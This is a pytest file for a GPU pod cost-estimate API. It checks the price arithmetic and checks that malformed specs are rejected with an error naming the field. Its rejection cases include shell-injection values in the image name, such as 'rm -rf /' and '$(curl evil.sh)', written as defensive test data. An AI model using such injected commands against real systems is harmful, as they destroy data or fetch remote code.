"""The custom-pod cost estimate: the seed's example, and malformed specs refused with a 4xx
that names the field (GPU count 3, negative storage, unknown GPU type, image names with
shell metacharacters, unknown fields)."""

from __future__ import annotations

from typing import Any

import httpx
import pytest

from tests.support.platform import Platform

SPEC = {
    "image": "pytorch/pytorch:2.1.0-cuda12.1-cudnn8-runtime",
    "gpu_type": "NVIDIA GeForce RTX 4090",
    "storage_gb": 50,
}


def estimate(platform: Platform, **changes: Any) -> httpx.Response:
    return httpx.post(f"{platform.url}/api/compute/pods/estimate", json={**SPEC, **changes})


def test_the_seed_example(gpu: Platform) -> None:
    # RTX 4090 in Community Cloud with 50 GB: $0.35 + $0.10 = $0.45/hr, $10.80/day.
    community = estimate(gpu).json()
    assert (community["gpu_per_hour"], community["storage_per_hour"]) == ("0.35", "0.10")
    assert (community["per_hour"], community["per_day"]) == ("0.45", "10.80")
    assert community["nanos_per_day"] == 24 * community["nanos_per_hour"]
    secure = estimate(gpu, cloud_type="SECURE", gpu_count=2).json()
    assert secure["per_hour"] == "1.20"  # 2 x $0.55 + $0.10
    gpus = httpx.get(f"{gpu.url}/api/compute/gpus").json()
    rtx = next(g for g in gpus if g["gpu_type"] == "NVIDIA GeForce RTX 4090")
    assert (rtx["community_per_hour"], rtx["secure_per_hour"]) == ("0.35", "0.55")


@pytest.mark.parametrize(
    ("changes", "status", "param"),
    [
        ({"gpu_count": 3}, 422, "gpu_count"),
        ({"storage_gb": -1}, 422, "storage_gb"),
        ({"gpu_type": "NVIDIA GeForce GTX 480"}, 400, "gpu_type"),
        ({"image": "ubuntu; rm -rf /"}, 422, "image"),
        ({"image": "ubuntu$(curl evil.sh)"}, 422, "image"),
        ({"image": "ubuntu:latest && sh"}, 422, "image"),
        ({"cloud_type": "SPOT"}, 422, "cloud_type"),
        ({"ports": ["8888/udp"]}, 422, "ports.0"),
        ({"env": {"BAD-NAME": "x"}}, 422, "env.BAD-NAME.[key]"),
        ({"volume_mount": "/workspace"}, 422, "volume_mount"),
    ],
)
def test_malformed_specs_are_refused_naming_the_field(
    gpu: Platform, changes: dict[str, Any], status: int, param: str
) -> None:
    response = estimate(gpu, **changes)
    assert response.status_code == status, response.text
    assert response.json()["error"]["param"] == param
